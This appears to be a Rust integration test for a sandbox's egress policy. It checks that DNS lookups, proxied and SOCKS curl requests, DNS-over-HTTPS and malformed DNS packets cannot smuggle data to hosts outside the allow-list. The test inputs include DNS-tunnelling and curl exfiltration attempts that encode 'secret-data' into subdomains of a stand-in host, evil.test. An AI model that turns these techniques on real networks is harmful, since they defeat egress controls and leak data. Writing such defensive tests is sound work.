//! Names as a way out: no question about a name leaves, but for names that may be reached, when they are.

use std::fmt::Write as _;

use tests::internet::House;

use crate::ground::{
    Attempt, Control, Ground, RESOLVER, attempt, curl, on_the_internet, probe, probing, texts,
    until,
};

const POLICY: &str = "
version: 1
egress:
  implement:
    allow:
      - ok.test
      - '*.wild.test'
      - { host: doh.test, methods: [GET, POST], paths: [/docs/**] }
";

const WISHES: [&str; 6] = [
    "--allow",
    "ok.test",
    "--allow",
    "\"*.wild.test\"",
    "--allow",
    "{ host: doh.test, methods: [GET, POST], paths: [/docs/**] }",
];

const A: u16 = 1;
const SECRET: &str = "c2VjcmV0LWRhdGE.evil.test";

/// A question about a name, as the probe is given bytes.
fn question(labels: &[&[u8]], kind: u16) -> String {
    let mut bytes = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in labels {
        bytes.push(u8::try_from(label.len()).unwrap());
        bytes.extend(*label);
    }
    bytes.push(0);
    bytes.extend(kind.to_be_bytes());
    bytes.extend([0, 1]);
    escaped(&bytes)
}

fn escaped(bytes: &[u8]) -> String {
    bytes.iter().fold(String::new(), |mut text, byte| {
        let _ = write!(text, "\\x{byte:02x}");
        text
    })
}

fn about(name: &str, kind: u16) -> String {
    let labels: Vec<&[u8]> = name.split('.').map(str::as_bytes).collect();
    question(&labels, kind)
}

/// Questions that would carry a message in their name.
fn messages() -> Vec<Attempt> {
    let secret = about(SECRET, A);
    let outside = |way: &str| {
        let line = ["ask", way, "8.8.8.8:53", &secret];
        Control::House(line.iter().map(|&word| word.to_owned()).collect())
    };
    let mut all = Vec::new();
    // By the resolver that a sandbox has: the name does not exist.
    for way in ["udp", "tcp"] {
        let asked = about(&format!("{way}.{SECRET}"), A);
        let one = probe(13, &["ask", way, RESOLVER, &asked]).control(outside(way));
        let one = one.named(&format!("{SECRET} by {way} of the resolver inside"));
        all.push(one.says(&["code 3 answers 0"]).refused("not_allowed"));
    }
    // Both kinds of address are asked for, and that is one attempt.
    let ask = format!("import socket; socket.getaddrinfo('{SECRET}', 443)");
    let libc = attempt(13, "the same by libc", &["python3", "-c", &ask], &[]);
    all.push(libc.says(&["gaierror"]).refused("not_allowed").control(outside("udp")));
    // By others, which are not there.
    for (way, at) in [
        ("udp", "8.8.8.8:53"),
        ("tcp", "8.8.8.8:53"),
        ("udp", "9.9.9.53:53"),
        ("tcp", "9.9.9.53:53"),
        ("udp", "10.0.0.5:53"),
        ("udp", "[2606:2800:220:1::34]:53"),
        ("udp", "224.0.0.251:5353"),
        ("udp", "224.0.0.252:5355"),
    ] {
        let one =
            probe(13, &["ask", way, at, &secret]).named(&format!("{SECRET} by {way} of {at}"));
        all.push(one.says(&["denied"]));
    }
    all
}

/// The same by programs that connect somewhere.
fn by_programs() -> Vec<Attempt> {
    let ok = curl(&["https://ok.test/"]);
    let mut all = Vec::new();
    for (name, options, told) in [
        ("http by proxy", vec!["http://c2VjcmV0.evil.test/"], "403"),
        ("https by proxy", vec!["https://c2VjcmV0.evil.test/"], "403"),
        ("http by address", vec!["--noproxy", "*", "http://by-http.evil.test/"], "curl: (6)"),
        ("https by address", vec!["--noproxy", "*", "https://by-https.evil.test/"], "curl: (6)"),
        (
            "SOCKS with a name",
            vec!["--socks5-hostname", "127.0.0.1:1080", "http://c2VjcmV0.evil.test/"],
            "curl: (97)",
        ),
        (
            "SOCKS with an address",
            vec!["--socks5", "127.0.0.1:1080", "http://by-socks.evil.test/"],
            "curl: (97)",
        ),
        ("below a host that may be reached", vec!["https://c2VjcmV0.ok.test/"], "403"),
        ("above a wildcard", vec!["https://wild.test/"], "403"),
    ] {
        let case = if name.contains("below") || name.contains("above") { 15 } else { 14 };
        let one = attempt(case, name, &curl(&options), &ok);
        all.push(one.says(&[told]).refused("not_allowed"));
    }
    all
}

/// Questions that a resolver could stumble over. Nothing leaves, and it goes on.
fn odd_questions() -> Vec<Attempt> {
    let long: Vec<&[u8]> = vec![&[b'a'; 63]; 5];
    let loops = escaped(&[0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0xc0, 12, 0, 1, 0, 1]);
    let two = escaped(&[0, 1, 1, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 1]);
    let answer = escaped(&[0, 1, 0x81, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 1]);
    let huge = escaped(&[7; 4000]);
    let mut all = Vec::new();
    let outside = || {
        let words = ["ask", "udp", "8.8.8.8:53", &about("ok.test", A)];
        Control::House(words.iter().map(|&word| word.to_owned()).collect())
    };
    for (name, bytes, told) in [
        ("TXT", about("ok.test", 16), "code 0 answers 0"),
        ("NULL", about("ok.test", 10), "code 0 answers 0"),
        ("SVCB", about("ok.test", 64), "code 0 answers 0"),
        ("HTTPS", about("ok.test", 65), "code 0 answers 0"),
        ("MX", about("ok.test", 15), "code 0 answers 0"),
        ("ANY", about("ok.test", 255), "code 0 answers 0"),
        ("AXFR", about("ok.test", 252), "code "),
        ("a name of 320 bytes", question(&long, A), "code 1"),
        ("a name that leads to itself", loops, "code 1"),
        ("two questions", two, "code 1"),
        ("NUL in a label", question(&[b"ok\0evil", b"test"], A), "code "),
        ("a dot in a label", question(&[b"ok.test"], A), "code "),
        ("bytes above 127", question(&[b"\xf6k", b"test"], A), "code "),
    ] {
        let one = probe(16, &["ask", "udp", RESOLVER, &bytes]).control(outside());
        all.push(one.named(name).says(&[told]));
    }
    for (name, bytes) in [("an answer", answer), ("4000 bytes", huge), ("nothing", String::new())] {
        let one = probe(16, &["ask", "udp", RESOLVER, &bytes]).control(outside());
        all.push(one.named(name).says(&["code 1", "denied EAGAIN", "bytes"]));
    }
    all
}

/// Asking about names over HTTP, at a host that may be reached for something else.
fn over_https() -> Vec<Attempt> {
    let control = curl(&["https://doh.test/docs/x"]);
    let kind = "content-type: application/dns-message";
    let rows = [
        attempt(17, "DoH by GET", &curl(&["https://doh.test/dns-query?dns=AAABAAAB"]), &control),
        attempt(
            17,
            "DoH by POST",
            &curl(&["-H", kind, "--data-binary", "xxxx", "https://doh.test/dns-query"]),
            &control,
        ),
        attempt(
            17,
            "DoH in JSON",
            &curl(&["https://doh.test/resolve?name=c2VjcmV0.evil.test"]),
            &control,
        ),
    ];
    rows.map(|row| row.says(&["403"]).refused("not_allowed")).to_vec()
}

/// A wildcard that is allowed is a channel; what goes through it is written down.
fn wildcard(ground: &mut Ground<'_>) {
    let marks = (ground.internet.mark(), ground.house.audit().len());
    let said = ground.house.run(ground.sandbox(), &curl(&["https://c2VjcmV0.wild.test/x"]));
    let arrived = ground.internet.since(marks.0);
    let asked = arrived.iter().any(|arrival| arrival.query() == Some("c2vjcmv0.wild.test"));
    let records = ground.house.audited(marks.1, 1, |record| record.host() == "c2vjcmv0.wild.test");
    let found = format!("{said}; {} records", records.len());
    ground.check(15, "below a wildcard that is allowed: written down once", &found, {
        asked && records.len() == 1 && records[0].outcome() == "done"
    });
}

/// The stub still does what it is for.
fn goes_on(ground: &mut Ground<'_>) {
    let mark = ground.internet.mark();
    let argv = probing(&["ask", "udp", RESOLVER, &about("ok.test", A)]);
    let said = ground.house.run(ground.sandbox(), &texts(&argv));
    let good = said.out.contains("code 0 answers 1 198.1");
    ground.check(16, "after all that, a name has an address", &said.to_string(), good);
    let nothing = ground.internet.since(mark);
    ground.check(16, "and was not looked up", &format!("{nothing:?}"), nothing.is_empty());
    let line = curl(&["--noproxy", "*", "https://ok.test/"]);
    let said = ground.house.run(ground.sandbox(), &line);
    ground.check(16, "and leads to its host", &said.to_string(), said.out.ends_with("arrived"));
}

/// Each refusal is one row of the audit log, and the log is whole.
fn in_the_audit_log(ground: &mut Ground<'_>) {
    let house = ground.house;
    let refusals = house.audit().iter().filter(|record| record.is_refusal()).count();
    let rows = until(|| Some(house.rows("egress.refused").len()).filter(|rows| *rows >= refusals));
    let told = format!("{refusals} refusals, {rows:?} rows");
    ground.check(14, "every refusal is one row of the audit log", &told, rows == Some(refusals));
    let data = house.path().join("data");
    let said = house.lamp(&["audit", "verify", "--data", data.to_str().unwrap()]);
    ground.check(14, "and the log is whole", &said.to_string(), said.succeeded());
}

#[test]
fn no_name_carries_a_message_out() {
    on_the_internet("names", |internet| {
        let house = House::start(internet, POLICY);
        let with = [&["--tier", "verified"][..], &WISHES].concat();
        let mut ground = Ground::new(internet, &house, "verified", &with);
        let tables = [messages(), by_programs(), odd_questions(), over_https()];
        for attempt in tables.iter().flatten() {
            ground.deny(attempt);
        }
        wildcard(&mut ground);
        goes_on(&mut ground);
        in_the_audit_log(&mut ground);
        ground.done().finish("names", 45);
    });
}
